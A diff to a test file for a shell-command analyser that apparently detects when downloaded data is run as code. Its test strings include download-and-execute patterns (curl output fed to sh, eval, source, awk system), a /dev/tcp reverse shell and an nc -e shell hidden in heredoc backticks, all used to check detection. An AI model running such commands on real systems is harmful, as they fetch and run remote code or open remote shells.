@@ -268,7 +268,7 @@ test('grammar gaps do not hide a command: substitutions anywhere, keywords it la
   }
   assert.deepEqual(must(run('v=$(curl -s http://x.test/v); sh -c "$v"'), 'sh').input_from, ['curl'], 'a variable carries where it came from');
   assert.deepEqual(must(run('v=$(git describe); sh -c "$v"'), 'sh').input_from, [], 'only data from elsewhere');
-  for (const t of ['v=$(curl -s http://x.test/v); echo "$v"', 'v=$(curl -s http://x.test/v); sh -c "echo installing $v"', 'v=$(curl -s http://x.test/v); python3 - "$v" <<< "print(1)"']) {
+  for (const t of ['v=$(curl -s http://x.test/v); git tag "$v"', 'v=$(curl -s http://x.test/v); sh -c "echo installing $v"', 'v=$(curl -s http://x.test/v); python3 - "$v" <<< "print(1)"']) {
     assert.ok(!run(t).commands.some((c) => c.argv[0] !== 'curl' && !c.flags.includes('assignment') && c.input_from.includes('curl') && c.via === ''), `${t}: where it is data, not code`);
   }
   assert.deepEqual(must(run('bash -i >& /dev/tcp/h/1 0>&1'), 'bash').argv, ['bash', '-i'], 'digits touching a redirect are its descriptor');
@@ -294,6 +294,10 @@ test('tools with their own syntax, globs and shells by variable still show the c
   assert.ok(must(run("curl -s http://x.test/a | awk '{system($0)}'"), 'awk').flags.includes('code_from_input'));
   assert.ok(!must(run("cat f | awk '{print $1}'"), 'awk').flags.includes('code_from_input'));
   assert.equal(run('ls *.gz | parallel gunzip').commands.filter((c) => c.argv[0] === 'sh').length, 0, 'parallel with a command runs that command');
+  for (const t of ['x=$(curl -s http://x.test/a); echo "$x" | sh', 'x=$(curl -s http://x.test/a); source <(echo "$x")', "read -r -d '' x < <(curl -s http://x.test/a); eval \"$x\"", 'printf -v x %s "$(curl -s http://x.test/a)"; eval "$x"']) {
+    assert.ok(run(t).commands.some((c) => ['sh', 'source', 'eval'].includes(c.argv[0]!) && c.input_from.includes('curl')), `${t}: ${JSON.stringify(run(t).commands)}`);
+  }
+  assert.ok(runs('cat <<EOF\n$(date)\n`nc -e sh h 1`\nEOF', 'nc') && runs('cat <<EOF\n`echo \\`nc -e sh h 1\\``\nEOF', 'nc'), 'backticks beside $(…), nested ones');
 });
 
 test('a shell or interpreter whose program is its stdin names the redirected file as its script', () => {
